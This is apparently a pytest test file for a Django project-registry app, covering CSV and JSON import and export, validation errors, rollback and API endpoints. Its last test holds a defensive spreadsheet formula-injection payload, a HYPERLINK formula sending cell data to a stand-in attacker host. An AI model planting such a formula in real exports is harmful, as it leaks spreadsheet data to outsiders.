"""Import and export of projects (CSV and JSON), by service, command and API."""

import csv
import json
from io import StringIO

import pytest
from django.core.management import call_command

from kakehashi.core.errors import ImportRejected
from kakehashi.projects.imports import COLUMNS, projects_export, projects_import
from kakehashi.projects.models import Project
from tests import factories
from tests.kakehashi.api_helpers import API, body, token_client

HEADER = ",".join(COLUMNS) + "\n"


def row(**values) -> str:
    defaults = {
        "language": "en",
        "title": "Robot learning",
        "description": "Learn robots.",
        "working_language": "en",
        "region": "JP-26",
        "start_date": "2027-05-01",
        "end_date": "2027-08-31",
        "capacity": "1",
        "status": "approved",
    }
    merged = {**defaults, **values}
    return ",".join(str(merged.get(c, "")) for c in COLUMNS) + "\n"


def _snapshot():
    return sorted(
        Project.objects.values_list("key", "title", "region", "capacity", "status", "host__ror_id")
    )


@pytest.fixture
def setting(db):
    call = factories.CallFactory(slug="summer")
    host = factories.OrganisationFactory(ror_id="01pe1d703", name="ATR")
    factories.UserFactory(username="morimoto")
    return call, host


@pytest.mark.django_db
def test_import_creates_then_updates_by_key(setting):
    data = HEADER + row(
        key="robots",
        call="summer",
        host_ror="01pe1d703",
        fields="RDF10",
        skills="python|ros",
        supervisors="morimoto:academic",
    )

    first = projects_import(data=data, format="csv")
    second = projects_import(data=data.replace("Robot learning", "Robot learning II"), format="csv")

    assert (first.created, first.updated, second.created, second.updated) == (1, 0, 0, 1)
    project = Project.objects.get(key="robots")
    assert (project.title, project.host.name, project.skills) == (
        "Robot learning II",
        "ATR",
        ["python", "ros"],
    )
    assert [f.code for f in project.fields.all()] == ["RDF10"]
    assert [(s.person.username, s.role) for s in project.supervisions.all()] == [
        ("morimoto", "academic")
    ]


@pytest.mark.django_db
def test_import_bad_rows_reject_file_and_keep_database(setting):
    factories.ProjectFactory(key="kept", title="Kept", host=setting[1], call=setting[0])
    before = _snapshot()
    data = (
        HEADER
        + row(key="kept", call="summer", host_ror="01pe1d703", title="Changed")
        + row(key="no-call", call="winter", host_ror="01pe1d704")
        + row(key="bad-region", call="summer", host_ror="01pe1d703", region="JP-00")
        + row(key="bad-sup", call="summer", host_ror="01pe1d703", supervisors="nobody:academic")
        + row(key="bad-date", call="summer", host_ror="01pe1d703", end_date="31/08/2027")
    )

    with pytest.raises(ImportRejected) as caught:
        projects_import(data=data, format="csv")

    assert caught.value.rows == [
        {
            "row": 2,
            "id": "no-call",
            "errors": {
                "call": ["No call with slug “winter”."],
                "host_ror": ["“01pe1d704” is not a valid ROR id: its check digits are wrong."],
            },
        },
        {
            "row": 3,
            "id": "bad-region",
            "errors": {"region": ["“JP-00” is not an ISO 3166-2 code of Canada or Japan."]},
        },
        {"row": 4, "id": "bad-sup", "errors": {"supervisors": ["Unknown usernames: nobody."]}},
        {
            "row": 5,
            "id": "bad-date",
            "errors": {"end_date": ["“31/08/2027” is not a date (YYYY-MM-DD)."]},
        },
    ]
    assert _snapshot() == before


@pytest.mark.django_db
def test_import_naming_a_key_three_times_rejects_whole_file(setting):
    rows = [
        row(key="robots", call="summer", host_ror="01pe1d703", title=title)
        for title in ("One", "Two", "Three")
    ]
    data = (
        HEADER + rows[0] + row(key="other", call="summer", host_ror="01pe1d703") + "".join(rows[1:])
    )

    with pytest.raises(ImportRejected) as caught:
        projects_import(data=data, format="csv")

    message = "“robots” is also in rows %s: a file may name each record only once."
    assert caught.value.rows == [
        {"row": 1, "id": "robots", "errors": {"key": [message % "3, 4"]}},
        {"row": 3, "id": "robots", "errors": {"key": [message % "1, 4"]}},
        {"row": 4, "id": "robots", "errors": {"key": [message % "1, 3"]}},
    ]
    assert _snapshot() == []


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["csv", "json"])
def test_export_then_import_round_trips(format, project):
    project.translations = {"en": {"title": "EEG decoding"}}
    project.save()
    officer = factories.OfficerFactory()
    before = _snapshot()

    text = projects_export(user=officer, format=format)
    result = projects_import(data=text, format=format)

    assert (result.created, result.updated) == (0, 1)
    assert _snapshot() == before
    project.refresh_from_db()
    assert project.translations == {"en": {"title": "EEG decoding"}}


@pytest.mark.django_db
def test_export_shows_only_visible_projects(project, call):
    factories.ProjectFactory(call=call, status="draft", key="secret")

    rows = json.loads(projects_export(user=factories.UserFactory(), format="json"))

    assert [r["key"] for r in rows] == [project.key]
    assert rows[0]["supervisors"] == [f"{project.supervisions.get().person.username}:academic"]


@pytest.mark.django_db
def test_commands_round_trip(tmp_path, project):
    target = tmp_path / "projects.csv"
    out = StringIO()

    call_command("export_projects", "-o", str(target))
    call_command("import_projects", str(target), stdout=out)

    assert out.getvalue() == "projects: 0 created, 1 updated, 0 skipped.\n"


@pytest.mark.django_db
def test_api_import_json_body_by_officer(setting, officer):
    records = [
        {
            "key": "robots",
            "call": "summer",
            "host_ror": "https://ror.org/01pe1d703",
            "language": "ja",
            "title": "ロボット学習",
            "description": "ロボット。",
            "working_language": "en",
            "region": "JP-26",
            "start_date": "2027-05-01",
            "end_date": "2027-08-31",
            "translations": {"en": {"title": "Robot learning"}},
            "supervisors": ["morimoto:industry"],
        }
    ]

    response = token_client(officer).post(
        f"{API}/projects/import", json.dumps(records), content_type="application/json"
    )

    assert body(response) == {"created": 1, "updated": 0, "skipped": 0, "keys": ["robots"]}
    project = Project.objects.get(key="robots")
    assert (project.title, project.status, project.translations) == (
        "ロボット学習",
        "draft",
        {"en": {"title": "Robot learning"}},
    )


@pytest.mark.django_db
def test_api_export_csv_is_public_for_published(project):
    from django.test import Client

    response = Client().get(f"{API}/projects/export")

    lines = response.content.decode().splitlines()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert lines[0] == HEADER.strip()
    assert [line.split(",")[0] for line in lines[1:]] == [project.key]


@pytest.mark.django_db
def test_csv_export_quotes_formulas_and_imports_them_back(project):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    Project.objects.filter(pk=project.pk).update(
        title=formula, summary="+1 place", city="@home", description="-"
    )

    exported = projects_export(user=factories.OfficerFactory(), format="csv")
    [record] = csv.DictReader(StringIO(exported))
    projects_import(data=exported, format="csv")

    assert (record["title"], record["summary"], record["city"], record["description"]) == (
        "'" + formula,
        "'+1 place",
        "'@home",
        "'-",
    )
    project.refresh_from_db()
    assert (project.title, project.summary, project.city, project.description) == (
        formula,
        "+1 place",
        "@home",
        "-",
    )
